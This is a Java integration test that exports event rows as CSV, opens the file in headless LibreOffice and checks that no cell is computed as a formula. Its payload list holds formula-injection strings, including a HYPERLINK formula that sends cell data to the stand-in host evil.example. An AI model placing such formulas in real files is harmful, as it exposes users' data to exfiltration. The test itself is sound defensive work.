package io.variantdash.query.events;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.variantdash.event.EarlyKill;
import io.variantdash.query.testing.MigratedDatabase;
import io.variantdash.query.testing.Rows;
import io.variantdash.query.web.table.SpreadsheetText;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.SAXException;

/** The worst rows of an export in a real spreadsheet, where LibreOffice is there (Debian's libreoffice-calc). */
@QuarkusTest
@WithTestResource(MigratedDatabase.class)
class SpreadsheetTest {

    private static final Instant TEN = Instant.parse("2026-01-31T10:00:00Z");
    private static final int COMMA = ',';
    private static final int TIMEOUT_MINUTES = 3;

    private static final List<String> WORST = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1;1)",
            "  =1+1",
            "\uff1d1+1",
            "\uff0b1+1",
            "a;=1+1",
            "a,=1+1",
            "a|=1+1",
            "a; =1+1;b",
            "a;\"=1+1\"",
            "\"=1+1",
            "\",=1+1,\"",
            "';=1+1;'",
            "\"\";=1+1&\"\"",
            "=HYPERLINK(\"http://evil.example?\"&A1;\"x\")",
            "a;+1+1|-1+1,@SUM(1)",
            "\u00fc \u65e5\u672c \ud83d\ude00");

    private final Rows rows = Rows.ofNewPersona();

    @TempDir
    Path folder;

    @Test
    void computesNothingAndShowsEveryText() throws Exception {
        Optional<File> spreadsheet = Pattern.compile(File.pathSeparator)
                .splitAsStream(System.getenv().getOrDefault("PATH", ""))
                .map(path -> new File(path, "soffice"))
                .filter(File::canExecute)
                .findFirst();
        assumeTrue(spreadsheet.isPresent(), "LibreOffice is not installed (no soffice in the PATH)");
        for (String text : WORST) {
            rows.event(new EarlyKill(text, rows.persona(), text, text, 0.01, 100, null, TEN));
        }
        byte[] table = given().accept("text/csv")
                .get("/api/events/" + rows.persona() + "?bom=true")
                .asByteArray();

        for (int separator : new int[] {COMMA, ';', '\t', '|'}) {
            Document opened = open(spreadsheet.get(), table, separator);

            List<Element> cells = cells(opened);
            assertThat(cells).hasSizeGreaterThanOrEqualTo(WORST.size());
            assertThat(cells).allSatisfy(cell -> {
                assertThat(cell.getAttribute("table:formula"))
                        .as(cell.getTextContent())
                        .isEmpty();
                assertThat(cell.getAttribute("office:value-type"))
                        .as(cell.getTextContent())
                        .isIn("", "string");
            });
            if (separator == COMMA) {
                List<String> texts = cells.stream()
                        .map(Element::getTextContent)
                        .map(SpreadsheetTest::withoutBlanks)
                        .toList();
                WORST.forEach(text -> assertThat(texts)
                        .as(text)
                        .containsAnyOf(withoutBlanks(SpreadsheetText.of(text)), withoutBlanks(withoutFirst(text))));
            }
        }
    }

    /** A spreadsheet may take the apostrophe for its own sign that a text follows. */
    private static String withoutFirst(String text) {
        return SpreadsheetText.of(text).replaceFirst("^'", "");
    }

    /** The file has those of its own layout, and elements in the place of those that follow each other. */
    private static String withoutBlanks(String text) {
        return text.replaceAll("\\s", "");
    }

    private Document open(File spreadsheet, byte[] table, int separator)
            throws IOException, InterruptedException, ParserConfigurationException, SAXException {
        Path csv = Files.write(folder.resolve("table-%d.csv".formatted(separator)), table);
        // Fields by this separator, texts in quotes, UTF-8, from the first line on.
        Process conversion = new ProcessBuilder(
                        spreadsheet.getPath(),
                        "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                        "--headless",
                        "--infilter=CSV:%d,34,76,1".formatted(separator),
                        "--convert-to",
                        "fods",
                        "--outdir",
                        folder.toString(),
                        csv.toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("log").toFile())
                .start();
        try {
            assertThat(conversion.waitFor(TIMEOUT_MINUTES, TimeUnit.MINUTES)).isTrue();
        } finally {
            conversion.descendants().forEach(ProcessHandle::destroyForcibly);
            conversion.destroyForcibly();
        }
        Path opened = folder.resolve("table-%d.fods".formatted(separator));
        assertThat(opened).as(Files.readString(folder.resolve("log"))).exists();
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return factory.newDocumentBuilder().parse(opened.toFile());
    }

    private static List<Element> cells(Document document) {
        NodeList nodes = document.getElementsByTagName("table:table-cell");
        return Stream.iterate(0, i -> i + 1)
                .limit(nodes.getLength())
                .map(i -> (Element) nodes.item(i))
                .filter(cell -> !cell.getTextContent().isEmpty())
                .toList();
    }
}
